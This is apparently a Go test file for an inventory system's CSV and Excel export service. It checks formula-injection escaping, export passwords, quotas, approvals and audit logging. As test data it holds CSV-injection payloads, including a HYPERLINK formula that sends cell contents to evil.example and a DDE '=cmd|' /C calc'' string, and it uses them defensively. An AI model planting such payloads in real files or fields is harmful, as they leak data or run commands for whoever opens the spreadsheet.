package exports_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"errors"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"stockade/hub/approvals"
	"stockade/hub/auditlog"
	"stockade/hub/exports"
	"stockade/hub/hubtest"
	"stockade/hub/store"
	"stockade/internal/identity"
	"stockade/internal/web"
	"stockade/protocol/access"
	"stockade/protocol/approval"
	"stockade/protocol/change"
	"stockade/protocol/feed"
	"stockade/protocol/stock"
)

const (
	free  = 5
	quota = 20
)

type house struct {
	*hubtest.Hub
	*exports.Service
	requests *approvals.Service
}

var (
	wang  = identity.Person{Account: "wang", Session: "s1", Address: "10.0.0.7", Roles: []string{"branch-manager"}, Warehouses: []string{"SHA"}}
	other = identity.Person{Account: "other", Roles: []string{"branch-manager"}, Warehouses: []string{"SHA"}}
	hq    = identity.Person{Account: "=cmd|' /C calc'!A1", Roles: []string{"operations"}}
	li    = identity.Person{Account: "li", Roles: []string{"warehouse-worker"}, Warehouses: []string{"SHA"}}
)

// hostileName is a name as an attacker would type it, in hope of a spreadsheet.
const hostileName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")\r\n<b>&amp;"

// open returns a house with two receipts at SHA and bins of CTU, of an item with a hostile name.
func open(t *testing.T) *house {
	h := hubtest.New(t)
	recorder := &auditlog.Recorder{Store: h.Store, Ring: h.Ring, Clock: h.Now}
	policy := func(*store.View) (access.Policy, error) { return access.Ready(), nil }
	requests := &approvals.Service{Store: h.Store, Recorder: recorder, Rules: approvals.Rules(), Policy: policy,
		Subject: func(_ context.Context, name access.Account) (access.Subject, error) {
			return access.Subject{Account: name, Roles: []access.RoleID{access.Manager}}, nil
		}}
	s := &house{Hub: h, requests: requests, Service: &exports.Service{Store: h.Store, Recorder: recorder, Approvals: requests, Limits: exports.Limits{Free: free, Quota: quota, Keep: 7 * 24 * time.Hour},
		Decide: func(v *store.View, who identity.Person, p access.Permission) (access.Decision, error) {
			e, err := access.Compile(access.Ready())
			if err != nil {
				return access.Decision{}, err
			}
			subject := approvals.SubjectOf(who)
			subject.Temporary, err = v.Temporaries(approvals.Fold(subject.Account))
			now := h.Now()
			return e.Decide(access.Request{Subject: &subject, Permission: p, List: true, Time: now, StepUp: now, ClockTrusted: true, InContact: true}), err
		}}}
	for _, w := range []stock.Warehouse{"CTU", "SHA"} {
		n := h.Node(stock.NodeID(strings.ToLower(string(w))+"-1"), w)
		var ms []stock.Movement
		for i := range 4 {
			m := hubtest.Receipt(w, i)
			m.Key.SKU, m.Key.Lot, m.Quantity = "=1+1", stock.Lot(fmt.Sprintf("@L%d", i)), stock.Quantity(i+1)*stock.Unit/2
			m.Scanned.Count = m.Quantity
			ms = append(ms, m)
		}
		h.Process(n.Batch(ms...))
	}
	h.Update(func(tx *store.Tx) error {
		return tx.PutItem(feed.Item{SKU: "=1+1", Name: hostileName, Unit: "个", Active: true})
	})
	return s
}

func (h *house) create(who identity.Person, q exports.Query) store.ExportInfo {
	h.T.Helper()
	e, err := h.Create(h.T.Context(), who, q, "year's end")
	hubtest.Check(h.T, err)
	return e
}

func (h *house) fetch(who identity.Person, id string, f exports.Format, password string) exports.File {
	h.T.Helper()
	file, err := h.Fetch(h.T.Context(), who, id, f, password, english(h.T))
	hubtest.Check(h.T, err)
	return file
}

func english(t testing.TB) exports.Say {
	texts, err := web.LoadTexts()
	if err != nil {
		t.Fatal(err)
	}
	return func(key string, args map[string]string) string { return texts.Text(web.English, key, args) }
}

// records reads CSV as a spreadsheet does.
func records(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF"))))
	r.FieldsPerRecord = -1
	all, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return all
}

var harmless = regexp.MustCompile(`^-?[0-9.]+$`)

// TestRowsAreThoseOfTheStore: as CSV and as a workbook, in the rows that the person may see, marked, and with no cell that a
// spreadsheet would carry out.
func TestRowsAreThoseOfTheStore(t *testing.T) {
	h := open(t)
	e := h.create(wang, exports.Query{Kind: exports.Stock})
	if e.Lines != 4 || e.State != store.ExportReady {
		t.Fatalf("made %+v", e)
	}
	file := h.fetch(wang, e.ID, exports.CSV, "")
	if !regexp.MustCompile(`^stock_E[2-9A-Z]{4}-[2-9A-Z]{4}-[2-9A-Z]{4}_\d{8}-\d{6}_wang_`+e.Hash.String()[:16]+`\.csv$`).MatchString(file.Name) || !bytes.HasPrefix(file.Body, []byte("\uFEFFSTOCKADE,"+e.ID+",wang,")) {
		t.Errorf("file %s begins %.80q", file.Name, file.Body)
	}
	third := file.Body
	for range 2 {
		_, third, _ = bytes.Cut(third, []byte("\r\n"))
	}
	if sha256.Sum256(third) != e.Hash || !bytes.Contains(file.Body[:300], []byte("sha256 "+e.Hash.String())) {
		t.Error("the hash is not over the bytes from the third line on, or not in the first")
	}
	got := records(t, file.Body)[1:]
	if got[0][0] != "Warehouse" || got[0][10] != "Quantity" || len(got) != 5 {
		t.Fatalf("rows %q", got)
	}
	var want [][]string
	h.View(func(v *store.View) error {
		return v.Stock(store.StockFilter{Warehouse: "SHA", In: access.Places{All: true}}, func(r store.StockRow) error {
			want = append(want, []string{"SHA", r.Location.Code(), "'=1+1", "", `'=HYPERLINK("http://evil.example/?"&A1,"open")  <b>&amp;`, "", "'" + string(r.Key.Lot), "", "2027-06-30", "available", r.OnHand.String(), "个"})
			return nil
		})
	})
	if fmt.Sprint(got[1:]) != fmt.Sprint(want) {
		t.Errorf("rows are\n%q, want\n%q", got[1:], want)
	}
	book := h.fetch(wang, e.ID, exports.XLSX, "")
	f, err := excelize.OpenReader(bytes.NewReader(book.Body))
	hubtest.Check(t, err)
	sheets := f.GetSheetList()
	rows, err := f.GetRows(sheets[0])
	hubtest.Check(t, err)
	if len(rows) != 6 || rows[0][1] != e.ID || rows[0][2] != "wang" || fmt.Sprint(rows[2:]) != fmt.Sprint(want) {
		t.Errorf("sheets %v, rows\n%q", sheets, rows)
	}
	for i := range rows {
		for j := range rows[i] {
			at, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if formula, err := f.GetCellFormula(sheets[0], at); err != nil || formula != "" {
				t.Errorf("%s is the formula %q, %v", at, formula, err)
			}
			kind, err := f.GetCellType(sheets[0], at)
			if number := i >= 2 && j == 10; err != nil || number == (kind == excelize.CellTypeInlineString) {
				t.Errorf("%s %q is of type %d, %v", at, rows[i][j], kind, err)
			}
		}
	}
	origin, err := f.GetRows(sheets[1])
	if err != nil || len(origin) != 7 || origin[6][1] != e.Hash.String() || origin[5][1] != "4" {
		t.Errorf("origin %q, %v", origin, err)
	}
	if all := h.create(hq, exports.Query{Kind: exports.Stock, Warehouse: "CTU"}); all.Lines != 4 {
		t.Errorf("another warehouse for the headquarters: %d rows", all.Lines)
	}
}

// TestHostileCells: no text becomes a formula, whatever stands before it, and every row stays one line.
func TestHostileCells(t *testing.T) {
	for _, s := range []string{"=1+1", "+1", "-1+1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠x", " =1", "\t=1", "\r\n=1", "\u3000=1", "\u00a0=1", `"=1`, "'=1", "\x00=1", "\u2028=1", "\uFEFF=1", "x;=1", "x; @y", "x;\"=1", "\xff=1", "=cmd|' /C calc'!A0", "-2"} {
		got := exports.Cell(s)
		if strings.ContainsFunc(got, func(r rune) bool { return r < ' ' || r == '\u2028' || r == '\uFEFF' }) {
			t.Errorf("%q leaves control characters: %q", s, got)
		}
		for _, part := range strings.Split(got, ";") { // as a spreadsheet that divides at semicolons would
			if start := strings.TrimLeft(part, " \u00a0\u3000\""); start != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(start)[0]) {
				t.Errorf("%q becomes %q, of which %q is a formula", s, got, part)
			}
		}
	}
	for _, s := range []string{"", "螺丝 M3/8", "A-01", "2026-11-24", "50%", "a=b", "x; y"} {
		if got := exports.Cell(s); got != s {
			t.Errorf("%q becomes %q", s, got)
		}
	}
}

func FuzzCell(f *testing.F) {
	f.Add("=1+1")
	f.Add("x;\t\"@")
	f.Fuzz(func(t *testing.T, s string) {
		got := exports.Cell(s)
		if strings.ContainsAny(got, "\r\n\x00\t") {
			t.Fatalf("%q becomes %q", s, got)
		}
		if start := strings.TrimLeft(got, " \u00a0\u3000\""); start != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(start)[0]) {
			t.Fatalf("%q becomes %q", s, got)
		}
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		if err := w.Write([]string{got, "x"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if row := records(t, b.Bytes()); len(row) != 1 || row[0][0] != got {
			t.Fatalf("%q is read as %q", got, row)
		}
	})
}

// TestHostileNames: of a person whose name is a command.
func TestHostileNames(t *testing.T) {
	h := open(t)
	e := h.create(hq, exports.Query{Kind: exports.Catalogue})
	for _, f := range []exports.Format{exports.CSV, exports.XLSX} {
		file := h.fetch(hq, e.ID, f, "")
		if strings.ContainsAny(file.Name, `=|'! /\"`) {
			t.Errorf("name %q", file.Name)
		}
		if f == exports.CSV && records(t, file.Body)[0][2] != "'"+hq.Account {
			t.Errorf("the person is %q", records(t, file.Body)[0])
		}
	}
	for _, row := range records(t, h.fetch(hq, e.ID, exports.CSV, "").Body) {
		for _, c := range row {
			if !harmless.MatchString(c) && c != exports.Cell(c) && !strings.HasPrefix(c, "'") {
				t.Errorf("cell %q", c)
			}
		}
	}
}

func TestAPasswordIsNeededToOpen(t *testing.T) {
	h := open(t)
	e := h.create(wang, exports.Query{Kind: exports.Stock})
	const password = "春风又绿江南岸-明月何时照我还"
	file := h.fetch(wang, e.ID, exports.XLSX, password)
	if bytes.Contains(file.Body, []byte("xl/worksheets")) || bytes.Contains(file.Body, []byte(e.ID)) {
		t.Error("the workbook lies in the clear")
	}
	if _, err := excelize.OpenReader(bytes.NewReader(file.Body), excelize.Options{Password: "another password"}); err == nil {
		t.Error("another password opens it")
	}
	f, err := excelize.OpenReader(bytes.NewReader(file.Body), excelize.Options{Password: password})
	hubtest.Check(t, err)
	if rows, err := f.GetRows(f.GetSheetList()[0]); err != nil || len(rows) != 6 {
		t.Errorf("opened: %d rows, %v", len(rows), err)
	}
	for _, p := range []string{"too short", strings.Repeat("x", 129)} {
		if _, err := h.Fetch(t.Context(), wang, e.ID, exports.XLSX, p, english(t)); !errors.Is(err, exports.ErrPassword) {
			t.Errorf("password of %d: %v", len(p), err)
		}
	}
	if _, err := h.Fetch(t.Context(), wang, e.ID, exports.CSV, password, english(t)); !errors.Is(err, exports.ErrPassword) {
		t.Errorf("a password for CSV: %v", err)
	}
	for _, a := range h.entries() {
		for k, v := range a.Detail {
			if strings.Contains(v, password) {
				t.Errorf("the log has the password under %s", k)
			}
		}
	}
}

func (h *house) entries() (out []change.Entry) {
	h.T.Helper()
	h.View(func(v *store.View) error {
		list, err := v.Entries(0)
		for _, l := range list {
			c, err := change.Decode(l.Entry)
			if err != nil {
				return err
			}
			e, err := c.Entry()
			if err != nil {
				return err
			}
			out = append(out, e)
		}
		return err
	})
	return out
}

// TestOverTheLimitWaits: for an approval of exactly these rows; meanwhile nobody fetches anything, afterwards only who asked.
func TestOverTheLimitWaits(t *testing.T) {
	h := open(t)
	h.Limits.Free = 3
	e := h.create(wang, exports.Query{Kind: exports.Stock})
	if e.State != store.ExportWaiting {
		t.Fatalf("made %+v", e)
	}
	refused := func(who identity.Person) {
		t.Helper()
		if _, err := h.Fetch(t.Context(), who, e.ID, exports.CSV, "", english(t)); !errors.Is(err, store.ErrNotFound) {
			t.Errorf("%s fetched it: %v", who.Account, err)
		}
	}
	refused(wang)
	var a store.StoredApproval
	h.View(func(v *store.View) (err error) { a, err = v.Approval(e.ID); return err })
	c, err := exports.ContentOf(a.Request.Content)
	if err != nil || c.Hash != e.Hash || c.Lines != 4 || a.Request.Facts.Rows != 4 || !slices.Equal(a.Request.Facts.Warehouses, []stock.Warehouse{"SHA"}) || a.Request.Facts.Everywhere {
		t.Errorf("asked is %+v of %+v, %v", c, a.Request.Facts, err)
	}
	hash, err := a.Request.Hash()
	hubtest.Check(t, err)
	if err := h.requests.Approve(t.Context(), wang, e.ID, hash); !errors.Is(err, approval.ErrSelf) {
		t.Errorf("oneself: %v", err)
	}
	h.View(func(v *store.View) error {
		rows, err := h.Preview(v, e.ID, 2)
		if len(rows) != 2 || rows[0][0] != "SHA" {
			t.Errorf("preview %q", rows)
		}
		return err
	})
	// What is scanned meanwhile is not in what was approved.
	n := h.Node("sha-2", "SHA")
	h.Process(n.Batch(hubtest.Receipt("SHA", 9)))
	hubtest.Check(t, h.requests.Approve(t.Context(), other, e.ID, hash))
	refused(other)
	if got := records(t, h.fetch(wang, e.ID, exports.CSV, "").Body); len(got) != 6 {
		t.Errorf("%d lines after the approval", len(got))
	}
	var made, fetched bool
	for _, x := range h.entries() {
		made = made || x.Act == exports.ActAsked && x.Object == e.ID && x.Detail["rows"] == "4" && x.Detail["sha256"] == e.Hash.String()
		fetched = fetched || x.Act == exports.ActFetched && x.Object == e.ID && x.Detail["format"] == "csv"
	}
	if !made || !fetched {
		t.Errorf("the log lacks it: asked %v, fetched %v", made, fetched)
	}
	h.Later(7 * 24 * time.Hour)
	refused(wang)
	hubtest.Check(t, h.Service.Due(t.Context()))
	h.View(func(v *store.View) error {
		if _, err := v.ExportBody(e.ID); !errors.Is(err, store.ErrNotFound) {
			t.Errorf("the rows are kept: %v", err)
		}
		return nil
	})
}

func TestRefusedIsGone(t *testing.T) {
	h := open(t)
	h.Limits.Free = 0
	e := h.create(wang, exports.Query{Kind: exports.Stock})
	hubtest.Check(t, h.requests.Withdraw(t.Context(), wang, e.ID))
	if _, err := h.Fetch(t.Context(), wang, e.ID, exports.CSV, "", english(t)); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("fetched after it was withdrawn: %v", err)
	}
	if left, err := h.Left(t.Context(), wang); err != nil || left != quota {
		t.Errorf("%d rows left, %v", left, err)
	}
}

func TestQuota(t *testing.T) {
	h := open(t)
	for i := range quota / 4 {
		if left, err := h.Left(t.Context(), wang); err != nil || left != int64(quota-4*i) {
			t.Fatalf("%d rows left, %v", left, err)
		}
		h.create(wang, exports.Query{Kind: exports.Stock})
	}
	var q *exports.QuotaError
	if _, err := h.Create(t.Context(), wang, exports.Query{Kind: exports.Stock}, "x"); !errors.As(err, &q) || q.Left != 0 || q.Rows != 4 {
		t.Errorf("beyond the quota: %v", err)
	}
	h.create(other, exports.Query{Kind: exports.Stock}) // another person's is another quota
	h.Later(24 * time.Hour)
	h.create(wang, exports.Query{Kind: exports.Stock})
	h.Limits.Quota = 3
	if _, err := h.Create(t.Context(), hq, exports.Query{Kind: exports.Stock}, "x"); !errors.As(err, &q) {
		t.Errorf("more at once than any day allows: %v", err)
	}
}

// TestWhoMayNot: without the right for the kind nothing is made, and the attempt stands in the log; with a right for a time it is made,
// and the log names that right.
func TestWhoMayNot(t *testing.T) {
	h := open(t)
	if _, err := h.Create(t.Context(), li, exports.Query{Kind: exports.Stock}, "x"); !errors.Is(err, exports.ErrDenied) {
		t.Errorf("a worker: %v", err)
	}
	if _, err := h.Create(t.Context(), wang, exports.Query{Kind: "payroll"}, "x"); !errors.Is(err, exports.ErrKind) {
		t.Errorf("an unknown kind: %v", err)
	}
	if _, err := h.Create(t.Context(), wang, exports.Query{Kind: exports.Stock, Warehouse: "CTU"}, "x"); !errors.Is(err, exports.ErrNothing) {
		t.Errorf("another warehouse: %v", err)
	}
	if _, err := h.Create(t.Context(), wang, exports.Query{Kind: exports.Stock}, " "); !errors.Is(err, approval.ErrReason) {
		t.Errorf("without a reason: %v", err)
	}
	id, err := h.requests.Ask(t.Context(), li, approvals.Ask{Permission: "stock.export", Warehouses: []stock.Warehouse{"SHA"}, Until: h.Now().Add(time.Hour).UnixMilli()}, "stock-taking")
	hubtest.Check(t, err)
	var a store.StoredApproval
	h.View(func(v *store.View) (err error) { a, err = v.Approval(id); return err })
	hash, err := a.Request.Hash()
	hubtest.Check(t, err)
	hubtest.Check(t, h.requests.Approve(t.Context(), wang, id, hash))
	e := h.create(li, exports.Query{Kind: exports.Stock})
	denied, named := false, false
	for _, x := range h.entries() {
		denied = denied || x.Act == exports.ActDenied && x.Outcome == "refused"
		named = named || x.Act == exports.ActMade && x.Object == e.ID && x.Detail["temporary"] == id
	}
	if !denied || !named || e.Lines != 4 {
		t.Errorf("denied in the log %v, the grant named %v, %d rows", denied, named, e.Lines)
	}
}

// TestManyRows: a workbook of several sheets has every row once, and none of them is so large that the library puts it into a temporary file.
func TestManyRows(t *testing.T) {
	h := open(t)
	h.Limits = exports.Limits{Free: 1e6, Quota: 1e6, Keep: time.Hour}
	const items = 6_000
	long := strings.Repeat("&", 300) // 3 KB of XML a row: 18 MB in all, more than the library keeps in memory for one sheet
	h.Update(func(tx *store.Tx) error {
		for i := range items {
			if err := tx.PutItem(feed.Item{SKU: stock.SKU(fmt.Sprintf("S-%06d", i)), Name: long, NameEN: long, Unit: "个"}); err != nil {
				return err
			}
		}
		return nil
	})
	e := h.create(hq, exports.Query{Kind: exports.Catalogue})
	file := h.fetch(hq, e.ID, exports.XLSX, "")
	parts, err := zip.NewReader(bytes.NewReader(file.Body), int64(len(file.Body)))
	hubtest.Check(t, err)
	for _, p := range parts.File {
		if p.UncompressedSize64 >= excelize.StreamChunkSize {
			t.Errorf("%s has %d bytes: the library has written it to a file in the clear", p.Name, p.UncompressedSize64)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(file.Body))
	hubtest.Check(t, err)
	defer func() { hubtest.Check(t, f.Close()) }()
	seen := map[string]bool{}
	sheets := f.GetSheetList()
	for _, name := range sheets[:len(sheets)-1] {
		rows, err := f.GetRows(name)
		hubtest.Check(t, err)
		for _, r := range rows[2:] {
			seen[r[0]] = true
		}
	}
	if len(sheets) < 3 || len(seen) != items+1 {
		t.Errorf("%d sheets with %s rows", len(sheets), strconv.Itoa(len(seen)))
	}
}
